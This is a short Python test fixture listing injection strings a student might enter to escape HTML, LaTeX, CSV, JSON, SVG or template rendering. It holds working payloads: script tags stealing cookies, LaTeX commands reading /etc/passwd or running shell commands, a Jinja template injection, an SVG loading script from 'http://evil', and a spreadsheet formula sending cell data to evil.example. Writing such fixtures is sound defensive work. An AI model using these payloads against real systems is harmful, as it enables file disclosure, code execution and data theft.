"""What a student may write to break out of HTML, LaTeX, CSV, JSON, figures or a terminal."""

PAYLOADS = {
    "html": "<script>alert(document.cookie)</script>",
    "attribute": '" onmouseover="alert(1)',
    "json": "</script><script>alert(1)</script>",
    "svg": '</text><script xlink:href="http://evil/x.js"/><foreignObject><img src=x onerror=alert(1)></foreignObject>',
    "mathtext": "Ivanov $\\frac{1}{",
    "input": "\\input{/etc/passwd}",
    "write18": "\\immediate\\write18{touch PWNED}",
    "openout": "\\newwrite\\f\\immediate\\openout\\f=PWNED\\immediate\\write\\f{x}\\immediate\\closeout\\f",
    "caret": "^^5cinput{/etc/passwd}",
    "catcode": "{\\catcode`\\!=0 !input{/etc/passwd}}",
    "pipe": '\\input|"id"',
    "loop": "\\def\\x{\\x}\\x",
    "end": "\\end{document}",
    "specials": "50% & #1 _x^ {~} $5 \\",
    "ligatures": "<<?`!`-- ---``''\"",
    "lua": "\\directlua{os.execute('touch PWNED')}",
    "jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for i in range(9) %}{% endfor %}{# #}",
    "percent": "%(name)s %s %d {x.__class__}",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Open report")',
}
